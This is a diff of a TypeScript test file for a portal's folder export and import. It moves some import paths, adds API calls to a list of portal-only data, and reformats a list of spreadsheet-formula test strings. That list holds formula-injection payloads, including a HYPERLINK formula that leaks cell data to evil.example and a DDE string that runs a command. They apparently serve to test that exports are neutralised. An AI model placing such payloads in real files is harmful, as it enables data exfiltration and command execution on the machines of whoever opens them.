@@ -4,9 +4,9 @@ import { basename, join } from 'node:path'
 import { PassThrough } from 'node:stream'
 import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import { createAdministrator } from '#backend/administration/command/createAdministrator.ts'
 import { systemClock } from '#backend/clock.ts'
-import { openDatabase } from '#backend/database/open.ts'
+import { createAdministrator } from '#backend/command/createAdministrator.ts'
+import { openDatabase } from '#backend/database/openDatabase.ts'
 import { runImport } from '#backend/imports/folders/command.ts'
 import { exportFiles } from '#backend/imports/folders/exportFiles.ts'
 import { calls } from '#schema/index.ts'
@@ -50,8 +50,18 @@ let target: string
 
 /** Text that a customer may have written when refusing a bar. */
 const formulas = [
-  ...['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\uff1d1+1'],
-  ...["'=1", "''=1", 'a;=1+1', "a;'=1", 'a\n=2', '-5', 'plain'],
+  '=HYPERLINK("https://evil.example/?"&A1,"open")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1)',
+  '\uff1d1+1',
+  "'=1",
+  "''=1",
+  'a;=1+1',
+  "a;'=1",
+  'a\n=2',
+  '-5',
+  'plain',
 ]
 
 beforeAll(async () => {
@@ -64,7 +74,8 @@ beforeAll(async () => {
   for (const [at, formula] of formulas.entries())
     await demo.rows.ask(
       `update bars set refusal = ?, is_approved = 0, decided_on = '2026-11-02', approval_file_id = null where id = (select id from bars order by id limit 1 offset ?)`,
-      ...[formula, at],
+      formula,
+      at,
     )
   await exportFiles(demo, folder, () => {})
   await importInto(target)
@@ -116,18 +127,23 @@ const uploads = 'files and decisions that people left in the portal'
 /** Calls whose answers contain data that only the portal keeps and no file contains. */
 const ofThePortal: Readonly<Record<string, string>> = {
   'administration.listUsers': users,
+  'auditLog.readAudit': users,
   'approvalFiles.listFolders': uploads,
   'approvalFiles.listFiles': uploads,
   'approvalFiles.listPartNumbers': uploads,
   'approvalFiles.listChildren': uploads,
   // Search also finds users, quotes and files.
   'globalSearch.search': users,
+  'earlierCalls.search': users,
   'budgets.list': budgets,
   'budgets.customers': budgets,
   'budgets.get': budgets,
   'concessions.list': uploads,
+  'documents.statement': uploads,
+  'finance.invoiceStates': uploads,
   'dataFreshness.list': 'when the files came',
   'imports.listRuns': 'when the files came',
+  'imports.listKinds': 'when the files came',
   'material.listApprovals': uploads,
   'metrics.tiles': users,
   'metrics.listUsersByAccess': users,
@@ -139,6 +155,9 @@ const ofThePortal: Readonly<Record<string, string>> = {
   'metrics.hitRateByMonth': quotes,
   'metrics.listHitRates': quotes,
   'offers.list': uploads,
+  'openPoints.document': uploads,
+  'openPoints.ofPlant': uploads,
+  'openPoints.ofRequests': uploads,
   'orderReports.listLines': users,
   'requests.list': uploads,
   'orderRequests.list': quotes,
@@ -147,6 +166,7 @@ const ofThePortal: Readonly<Record<string, string>> = {
   'salesGoals.segments': budgets,
   // The task list includes users, quotes, files and mails.
   'tasks.list': users,
+  'earlierCalls.listTasks': users,
   'tasks.listRows': users,
   'visits.totalUsers': users,
   'visits.createdUsers': users,
